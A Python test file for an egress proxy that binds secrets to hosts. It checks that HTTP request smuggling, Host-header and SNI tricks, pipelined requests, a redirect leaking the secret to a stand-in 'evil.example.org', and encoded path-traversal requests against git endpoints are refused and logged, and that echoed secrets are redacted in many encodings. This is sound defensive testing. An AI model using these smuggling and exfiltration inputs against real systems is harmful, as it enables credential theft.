"""Attacks of boxes on secrets that are bound to a host: to send them elsewhere, to read them, to use those of others.

Each is refused and recorded.
"""

from __future__ import annotations

import asyncio
import base64
import contextlib
import gzip
import json
import re
import ssl
from collections.abc import AsyncIterator
from pathlib import Path
from urllib.parse import quote

import pytest
from tests.egress.bound_world import GIT, HOST, OUTSIDE, VALUE, BoundWorld, bound_world, trusting
from tests.egress.conftest import WAIT, Client, make_world
from tests.egress.test_connect import client_hello

from holdfast.api.box.network import Network, NetworkPolicy
from holdfast.api.secrets import Binding, SecretAction
from holdfast.egress import DefaultList
from holdfast.egress.bound.certificates import BoxAuthority
from holdfast.egress.packages import PackageCache, PackageMirror

pytestmark = pytest.mark.anyio
EVIL = "evil.example.org"
SECRET = VALUE.encode()


@pytest.fixture
async def bound(tmp_path: Path) -> AsyncIterator[BoundWorld]:
    async with bound_world(tmp_path) as bound:
        yield bound


async def recorded(bound: BoundWorld, why: str, secret: str = "TOKEN") -> None:
    """The newest decision refuses, and the audit of the secret has it, too."""
    decision = await bound.world.decision()
    assert not decision.allowed
    assert why in decision.why
    event = (await bound.secrets.events(secret))[0]
    assert (event.action, event.box) == (SecretAction.REFUSED, "b-1")
    assert why in event.detail


@pytest.mark.parametrize(
    ("attack", "why"),
    [
        (f"GET / HTTP/1.1\r\nHost: {EVIL}\r\n\r\n", "the Host header is not"),
        (f"GET / HTTP/1.1\r\nHost: {HOST}:8443\r\n\r\n", "the Host header is not"),
        (f"GET / HTTP/1.1\r\nHost: {HOST}.{EVIL}\r\n\r\n", "the Host header is not"),
        (f"GET / HTTP/1.1\r\nHost: {HOST}\r\nHost: {EVIL}\r\n\r\n", "exactly one Host"),
        ("GET / HTTP/1.1\r\n\r\n", "exactly one Host"),
        ("GET / HTTP/1.0\r\n\r\n", "the Host header is not"),
        (f"GET https://{EVIL}/ HTTP/1.1\r\nHost: {HOST}\r\n\r\n", "has to name a path"),
        (f"GET https://{HOST}/ HTTP/1.1\r\nHost: {HOST}\r\n\r\n", "has to name a path"),
        (f"GET http://{EVIL}/ HTTP/1.1\r\nHost: {EVIL}\r\n\r\n", "has to name a path"),
        (f"CONNECT {EVIL}:443 HTTP/1.1\r\nHost: {EVIL}:443\r\n\r\n", "has to name a path"),
        (f"OPTIONS * HTTP/1.1\r\nHost: {HOST}\r\n\r\n", "has to name a path"),
        ("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", "only HTTP/1.1"),
        (f"TRACE / HTTP/1.1\r\nHost: {HOST}\r\n\r\n", "TRACE is not sent"),
        (f"TRACK / HTTP/1.1\r\nHost: {HOST}\r\n\r\n", "TRACK is not sent"),
        (
            f"POST / HTTP/1.1\r\nHost: {HOST}\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
            "both Content-Length and Transfer-Encoding",
        ),
        (f"POST / HTTP/1.1\r\nHost: {HOST}\r\nContent-Length: 4\r\nContent-Length: 5\r\n\r\n", "more than one"),
        (f"POST / HTTP/1.1\r\nHost: {HOST}\r\nTransfer-Encoding: xchunked\r\n\r\n", "the only supported"),
        (f"POST / HTTP/1.1\r\nHost: {HOST}\r\nTransfer-Encoding : chunked\r\n\r\n", "name of a header is invalid"),
        (f"GET / HTTP/1.1\r\nHost: {HOST}\r\n X: folded\r\n\r\n", "name of a header is invalid"),
        (f"GET / HTTP/1.1\nHost: {HOST}\n\n", "CR LF"),
        (f"GET /\t{EVIL} HTTP/1.1\r\nHost: {HOST}\r\n\r\n", "the path has invalid characters"),
    ],
)
async def test_a_request_that_could_mean_another_place_is_not_sent(bound: BoundWorld, attack: str, why: str) -> None:
    client = await bound.inside()
    await client.send(attack.encode())
    assert (await client.rest()).split(b" ")[1] in (b"400", b"403")
    assert bound.outside.heads == []
    await recorded(bound, why)


@pytest.mark.parametrize(
    "header",
    ["Accept-Encoding: gzip", "Range: bytes=0-7", "If-Range: x", "Request-Range: bytes=0-7", "a-im: gzip, vcdiff"],
)
async def test_a_part_of_an_answer_or_a_compressed_one_is_not_asked_for(bound: BoundWorld, header: str) -> None:
    name, _, asked = header.encode().partition(b": ")
    assert (await bound.get("/", more=f"{header}\r\nX-Other: stays\r\n"))[0] == 200
    assert asked not in bound.outside.header(name.lower())
    assert bound.outside.header(b"x-other") == [b"stays"]


async def test_a_second_request_with_another_host_is_not_sent(bound: BoundWorld) -> None:
    client = await bound.inside()
    await client.send(
        f"GET /1 HTTP/1.1\r\nHost: {HOST}\r\n\r\nGET /2 HTTP/1.1\r\nHost: {EVIL}\r\n\r\n".encode()  # pipelined
    )
    assert (await client.response())[0] == 200
    assert (await client.response())[0] == 400
    assert [head.split(b" ")[1] for head in bound.outside.heads] == [b"/1"]
    await recorded(bound, "the Host header is not")


async def test_a_request_hidden_in_a_body_stays_a_body(bound: BoundWorld) -> None:
    hidden = f"GET /hidden HTTP/1.1\r\nHost: {EVIL}\r\n\r\n".encode()
    client = await bound.inside()
    await client.send(b"POST / HTTP/1.1\r\nHost: %s\r\nContent-Length: %d\r\n\r\n" % (HOST.encode(), len(hidden)))
    await client.send(hidden)
    assert (await client.response())[0] == 200
    assert bound.outside.bodies == [hidden]
    assert len(bound.outside.heads) == 1


@pytest.mark.parametrize("mode", [Network.ALLOW, Network.OPEN])
@pytest.mark.parametrize(
    ("first", "why"),
    [
        (client_hello(EVIL), f"asks for {EVIL} inside"),
        (client_hello(None), "asks for no name inside"),
        (f"GET / HTTP/1.1\r\nHost: {HOST}\r\n\r\n".encode(), "the first bytes are not a TLS handshake"),
        (b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", "the first bytes are not a TLS handshake"),
    ],
)
async def test_a_tunnel_with_another_name_inside_is_reset(
    bound: BoundWorld, mode: Network, first: bytes, why: str
) -> None:
    bound.world.box(mode=mode, secrets=("TOKEN",))
    client = await bound.connect()
    await client.send(first)
    assert await client.is_reset()
    assert bound.world.connector.connected == []
    await recorded(bound, why)


async def test_a_tunnel_elsewhere_with_the_bound_name_inside_is_reset(bound: BoundWorld) -> None:
    await bound.serve(EVIL)
    bound.world.box(EVIL, secrets=("TOKEN",))
    client = await bound.connect(EVIL)
    await client.send(client_hello(HOST))
    assert await client.is_reset()
    assert bound.outside.heads == []


async def test_http2_is_not_agreed_on(bound: BoundWorld) -> None:
    context = trusting(bound.server.authority("b-1"))
    context.set_alpn_protocols(["h2", "http/1.1"])
    client = await bound.inside(context=context)
    assert client.writer.get_extra_info("ssl_object").selected_alpn_protocol() == "http/1.1"
    await client.send(
        f"GET / HTTP/1.1\r\nHost: {HOST}\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n"
        "HTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n".encode()
    )
    assert (await client.response())[0] == 200
    assert b"upgrade" not in bound.outside.heads[0].lower()


async def test_a_redirect_takes_no_secret_along(bound: BoundWorld) -> None:
    await bound.serve(EVIL)
    bound.world.box(EVIL, secrets=("TOKEN",))
    bound.outside.answer = lambda head, body: (
        b"HTTP/1.1 302 Found\r\nLocation: https://%s/?stolen=%s\r\nContent-Length: 0\r\n\r\n" % (EVIL.encode(), SECRET)
    )
    client = await bound.inside()
    await client.send(f"GET / HTTP/1.1\r\nHost: {HOST}\r\n\r\n".encode())
    head = await client.head()
    assert SECRET not in head
    assert f"Location: https://{EVIL}/?stolen=***".encode() in head
    after = await bound.inside(EVIL, context=trusting(OUTSIDE))  # as a client that follows it
    await after.send(f"GET / HTTP/1.1\r\nHost: {EVIL}\r\nAuthorization: Bearer x\r\n\r\n".encode())
    await after.head()
    assert bound.outside.header(b"authorization") == [b"Bearer x"]


async def test_a_name_that_leads_to_another_server_gets_no_secret(bound: BoundWorld) -> None:
    await bound.serve(of=BoxAuthority(b"evil", "authority of the attacker"))
    status, body = await bound.get()
    assert status == 502
    assert b"its certificate is not valid" in body
    assert bound.outside.heads == []
    assert (await bound.world.decision()).failed


async def test_a_certificate_for_another_host_gets_no_secret(bound: BoundWorld) -> None:
    await bound.serve(certified=EVIL)
    assert (await bound.get())[0] == 502
    assert bound.outside.heads == []


async def test_a_name_at_a_private_address_gets_no_secret(bound: BoundWorld) -> None:
    bound.world.names.names[HOST] = ["127.0.0.1"]
    status, body = await bound.get()
    assert status == 403
    assert b"which no box reaches" in body
    assert bound.world.connector.connected == []


async def test_plain_http_gets_no_secret(bound: BoundWorld) -> None:
    await bound.serve(port=80)
    bound.world.box(HOST, secrets=("TOKEN",))
    status, body = await bound.world.get(f"http://{HOST}/")
    assert status == 200
    assert SECRET not in body
    assert bound.outside.header(b"authorization") == []


async def test_the_binding_alone_opens_no_plain_http(bound: BoundWorld) -> None:
    for url in (f"http://{HOST}/", f"http://{HOST}:443/"):
        assert (await bound.world.get(url))[0] == 403
    assert bound.outside.heads == []


async def test_another_box_gets_no_secret(bound: BoundWorld) -> None:
    bound.world.box(HOST, id="b-2")
    client = await bound.inside(box="b-2", context=trusting(OUTSIDE))  # end to end
    await client.send(f"GET / HTTP/1.1\r\nHost: {HOST}\r\n\r\n".encode())
    assert (await client.response())[0] == 200
    assert bound.outside.header(b"authorization") == []
    with pytest.raises(ssl.SSLCertVerificationError):
        await bound.inside(box="b-1", context=trusting(bound.server.authority("b-2")))


async def test_a_secret_is_taken_from_a_running_box(bound: BoundWorld) -> None:
    client = await bound.inside()
    bound.world.box("other.example.com")
    with contextlib.suppress(ConnectionError):
        await client.send(f"GET / HTTP/1.1\r\nHost: {HOST}\r\n\r\n".encode())
        assert await client.rest() == b""
    assert bound.outside.heads == []


async def test_a_secret_is_taken_from_a_box_that_may_still_reach_the_host(bound: BoundWorld) -> None:
    bound.world.box(HOST, secrets=("TOKEN",))
    client = await bound.inside()
    bound.world.box(HOST)
    await client.send(f"GET / HTTP/1.1\r\nHost: {HOST}\r\n\r\n".encode())
    status, body = await client.response()
    assert status == 403
    assert b"no longer there" in body
    assert bound.outside.heads == []


async def test_a_box_cannot_have_the_header_of_its_secret_dropped(bound: BoundWorld) -> None:
    await bound.get(more="Authorization: Bearer mine\r\nConnection: authorization, x-more\r\nX-More: 1\r\n")
    assert bound.outside.header(b"authorization") == [b"Bearer " + SECRET]
    assert b"x-more" not in bound.outside.heads[0].lower()


async def test_two_secrets_for_one_place_are_refused_and_neither_is_sent(bound: BoundWorld) -> None:
    await bound.secrets.set("SECOND", VALUE, [Binding(host=HOST)], by="alice")
    bound.world.box(secrets=("TOKEN", "SECOND"))
    status, body = await bound.get()
    assert status == 403
    assert b"TOKEN and SECOND are both bound to the header authorization" in body
    assert bound.outside.heads == []


# --- reading a secret in an answer ---

FORMS = {
    "plain": SECRET,
    "json": json.dumps({"key": VALUE}).encode(),
    "json with escaped slashes": json.dumps(VALUE).replace("/", "\\/").encode(),
    "query": quote(VALUE, safe="").encode(),
    "query in lower case": re.sub(rb"%..", lambda found: found[0].lower(), quote(VALUE, safe="").encode()),
    "query in a query": quote(quote(VALUE, safe=""), safe="").encode(),
    "json for a page": VALUE.replace("/", "\\u002f").replace("+", "\\u002B").encode(),
    "json in json": json.dumps(json.dumps({"key": VALUE.replace("+", "\\u002b")})).encode(),
    "html by number": VALUE.replace("-", "&#45;").replace("/", "&#x2F;").replace("+", "&#043;").encode(),
    "html by name": VALUE.replace("/", "&sol;").replace("+", "&plus;").encode(),
    "base64": base64.b64encode(SECRET),
    "base64 in a query": quote(base64.b64encode(SECRET), safe="").encode(),
    "base64 in a text": base64.b64encode(b"Bearer " + SECRET + b" and more"),
    "base64 for URLs": base64.urlsafe_b64encode(b"12" + SECRET),
    "hexadecimal": SECRET.hex().encode(),
    "hexadecimal in capitals": b"00" + SECRET.hex().upper().encode(),
    **{
        f"base64 in lines, {name} after {before}": base64.b64encode(b"x" * before + SECRET)[:cut]
        + line
        + base64.b64encode(b"x" * before + SECRET)[cut:]
        for name, line in (("broken", b"\r\n"), ("escaped", b"\\n"), ("twice escaped", b"\\\\r\\\\n"))
        for before, cut in ((0, 9), (7, 20), (2, 17))
    },
    "in lines": b"\n".join(SECRET[at : at + 5] for at in range(0, len(SECRET), 5)),
}


@pytest.mark.parametrize("form", FORMS)
@pytest.mark.parametrize("size", [1, 7, 100_000])
async def test_a_secret_in_an_answer_is_removed(bound: BoundWorld, form: str, size: int) -> None:
    """However it is written, and however the body is cut into chunks."""
    content = b"<<" + FORMS[form] + b">>"
    pieces = [content[at : at + size] for at in range(0, len(content), size)]
    bound.outside.answer = lambda head, body: (
        b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n"
        + b"".join(b"%x\r\n%s\r\n" % (len(piece), piece) for piece in pieces)
        + b"0\r\nX-Trailer: %s\r\n\r\n" % SECRET
    )
    client = await bound.inside()
    await client.send(f"GET / HTTP/1.1\r\nHost: {HOST}\r\nConnection: close\r\n\r\n".encode())
    answer = await client.rest()
    body = _joined(answer.partition(b"\r\n\r\n")[2])
    assert len(body) == len(content)
    assert body.startswith(b"<<")
    assert body.endswith(b">>")
    assert body.count(b"*") >= 16
    unbroken = re.sub(rb"[\r\n]|\\\\+[rn]", b"", body)
    for part in (VALUE[8:20].encode(), base64.b64encode(SECRET)[8:24], SECRET, SECRET.hex().encode()[8:]):
        assert part not in body
        assert part not in unbroken
    assert SECRET not in answer


def _joined(chunks: bytes) -> bytes:
    content = b""
    while chunks:
        size, _, chunks = chunks.partition(b"\r\n")
        content += chunks[: int(size, 16)]
        chunks = chunks[int(size, 16) + 2 :]
    return content


async def test_a_secret_in_a_head_is_removed(bound: BoundWorld) -> None:
    bound.outside.answer = lambda head, body: (
        b"HTTP/1.1 401 No %s\r\nX-Echo: <%s>\r\nSet-Cookie: k=%s\r\nContent-Length: 0\r\n\r\n"
        % (SECRET, SECRET, SECRET)
    )
    client = await bound.inside()
    await client.send(f"GET / HTTP/1.1\r\nHost: {HOST}\r\n\r\n".encode())
    head = await client.head()
    assert SECRET not in head
    assert head.count(b"*" * len(SECRET)) == 3


async def test_an_answer_is_neither_compressed_nor_cut(bound: BoundWorld) -> None:
    """A secret could not be found in it."""
    more = "Accept-Encoding: gzip, br\r\nRange: bytes=20-25\r\nIf-Range: x\r\n"
    _, body = await bound.get(more=more)
    assert bound.outside.header(b"accept-encoding") == [b"identity"]
    assert bound.outside.header(b"range") == bound.outside.header(b"if-range") == []
    assert SECRET not in body
    assert b"Authorization: Bearer " + b"*" * len(SECRET) in body


async def test_an_answer_that_is_compressed_all_the_same_is_not_passed_on(bound: BoundWorld) -> None:
    """Some hosts have addresses that repeat a request compressed, whatever it accepts."""
    content = gzip.compress(b"Authorization: Bearer " + SECRET)
    bound.outside.answer = lambda head, body: (
        b"HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nContent-Length: %d\r\n\r\n" % len(content) + content
    )
    status, body = await bound.get()
    assert status == 502
    assert b"it is compressed" in body
    assert content not in body


async def test_no_error_has_a_secret(bound: BoundWorld) -> None:
    bound.outside.answer = lambda head, body: b"not HTTP: " + SECRET + b"\r\n\r\n"
    status, body = await bound.get()
    assert status == 502
    assert SECRET not in body
    for decision in await bound.world.decisions():
        assert VALUE not in decision.why


# --- git ---


async def ask_git(bound: BoundWorld, line: str, push: bool = False) -> int:
    bound.world.box(GIT, secrets=("REPOS:push" if push else "REPOS",))
    client: Client = await bound.inside(GIT)
    await client.send(f"{line} HTTP/1.1\r\nHost: {GIT}\r\nContent-Length: 0\r\n\r\n".encode())
    status, _ = await client.response()
    return status


BASIC = b"Basic " + base64.b64encode(b"x-access-token:" + SECRET)


@pytest.mark.parametrize(
    "line",
    [
        "GET /acme/app.git/info/refs?service=git-upload-pack",
        "GET /acme/app/info/refs?service=git-upload-pack",
        "POST /acme/lib.git/git-upload-pack",
    ],
)
async def test_git_reads_allowed_repositories(bound: BoundWorld, line: str) -> None:
    assert await ask_git(bound, line) == 200
    assert bound.outside.header(b"authorization") == [BASIC]


@pytest.mark.parametrize(
    "line", ["GET /acme/app/info/refs?service=git-receive-pack", "POST /acme/app.git/git-receive-pack"]
)
async def test_git_pushes_only_where_the_box_may(bound: BoundWorld, line: str) -> None:
    assert await ask_git(bound, line) == 403
    assert bound.outside.heads == []
    await recorded(bound, "REPOS may not push to acme/app", "REPOS")
    assert await ask_git(bound, line, push=True) == 200
    assert bound.outside.header(b"authorization") == [BASIC]


@pytest.mark.parametrize("push", [False, True])
@pytest.mark.parametrize(
    "line",
    [
        "GET /acme/other.git/info/refs?service=git-upload-pack",
        "GET /acme/app2/info/refs?service=git-upload-pack",
        "GET /acme/app.git/../other.git/info/refs?service=git-upload-pack",
        "GET /acme/app.git/%2e%2e/other.git/info/refs?service=git-upload-pack",
        "GET /acme/app.git%2f..%2fother.git/info/refs?service=git-upload-pack",
        "GET /acme/./app.git/info/refs?service=git-upload-pack",
        "GET //acme/app.git/info/refs?service=git-upload-pack",
        "GET /ACME/app.git/info/refs?service=git-upload-pack",
        "GET /acme/app.git;x/info/refs?service=git-upload-pack",
        "GET /acme/app.git/info/refs?service=git-upload-pack&x=1",
        "GET /acme/app.git/info/refs",
        "GET /acme/app.git/",
        "GET /api/v3/user",
        "POST /acme/app.git/info/refs?service=git-upload-pack",
        "DELETE /acme/app.git/git-upload-pack",
    ],
)
async def test_no_other_path_gets_the_secret_of_a_repository(bound: BoundWorld, line: str, push: bool) -> None:
    await ask_git(bound, line, push)
    assert bound.outside.header(b"authorization") == []


@pytest.mark.parametrize(
    "line",
    [
        "GET /acme/other/info/refs?service=git-receive-pack",
        "POST /acme/other.git/git-receive-pack",
        "POST /acme/app.git/../other.git/git-receive-pack",
        "POST /acme/app.git/git%2dreceive%2dpack",
        "POST /acme/app.git/git%252dreceive-pack",
        "GET /acme/app.git/info/refs?service=git-upload-pack&service=git-receive-pack",
        "GET /acme/app.git/info/refs?service=GIT-RECEIVE-PACK",
    ],
)
async def test_a_push_elsewhere_is_refused_however_it_is_written(bound: BoundWorld, line: str) -> None:
    assert await ask_git(bound, line, push=True) == 403
    assert bound.outside.heads == []
    await recorded(bound, "may push to no such repository", "REPOS")


async def test_a_slow_handshake_ends(tmp_path: Path, bound: BoundWorld) -> None:
    client = await bound.connect()
    hello = client_hello(HOST)
    await client.send(hello[:50])
    client.writer.transport.abort()
    async with asyncio.timeout(WAIT):
        await bound.world.until_ended()


async def test_a_secret_in_the_trailers_of_an_answer_is_dropped(bound: BoundWorld) -> None:
    def answer(head: bytes, body: bytes) -> bytes:
        said = b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nTrailer: X-Echo\r\n\r\n"
        return said + b"2\r\nok\r\n0\r\nX-Echo: %s\r\n\r\n" % SECRET

    bound.outside.answer = answer
    client = await bound.inside()
    await client.send(f"GET / HTTP/1.1\r\nHost: {HOST}\r\n\r\n".encode())
    await client.head()
    async with asyncio.timeout(WAIT):
        assert await client.reader.readuntil(b"0\r\n\r\n") == b"2\r\nok\r\n0\r\n\r\n"
    await client.send(f"GET / HTTP/1.1\r\nHost: {HOST}\r\nConnection: close\r\n\r\n".encode())
    assert SECRET not in await client.rest()


async def test_trailers_of_a_request_replace_nothing_that_was_judged(bound: BoundWorld) -> None:
    client = await bound.inside()
    head = (
        f"POST / HTTP/1.1\r\nHost: {HOST}\r\nTransfer-Encoding: chunked\r\nTrailer: Host\r\nConnection: close\r\n\r\n"
    )
    await client.send(head.encode() + f"2\r\nok\r\n0\r\nHost: {EVIL}\r\nTransfer-Encoding: x\r\n\r\n".encode())
    assert (await client.rest()).startswith(b"HTTP/1.1 200 ") or bound.outside.heads == []
    assert all(EVIL.encode() not in each for each in (*bound.outside.heads, *bound.outside.bodies))


async def test_a_registry_with_a_secret_is_asked_inside_tls_only(tmp_path: Path, bound: BoundWorld) -> None:
    """The package cache speaks TLS to registries by itself. It never has a secret, and keeps nothing that needs one."""
    mirror = PackageMirror(PackageCache(tmp_path / "cache", 1 << 20), lambda: trusting(OUTSIDE))
    await mirror.cache.open()
    registries = DefaultList(registries=(f"https://{HOST}/",), indexes={"npm": f"https://{HOST}/"})
    (tmp_path / "other").mkdir()
    async with make_world(
        tmp_path / "other", secrets=bound.server, packages=mirror, defaults=registries,
        names=bound.world.names, connector=bound.world.connector,
    ) as world:  # fmt: skip
        world.box(HOST, secrets=("TOKEN",))
        policy = NetworkPolicy(Network.ALLOW, (HOST,), secrets=("TOKEN",))
        assert "npm_config_globalconfig" not in world.proxy.environment(policy)
        assert "npm_config_globalconfig" in world.proxy.environment(NetworkPolicy(Network.ALLOW, (HOST,)))
        name = f"{HOST}.packages.internal"
        for path in (f"http://{name}/demo/-/demo-1.0.0.tgz", f"/packages/{HOST}/demo/-/demo-1.0.0.tgz"):
            status, body = await world.ask(f"GET {path} HTTP/1.1\r\nHost: {name}\r\n\r\n".encode())
            assert status == 200
            assert b"uthorization" not in bound.outside.heads[-1] + body
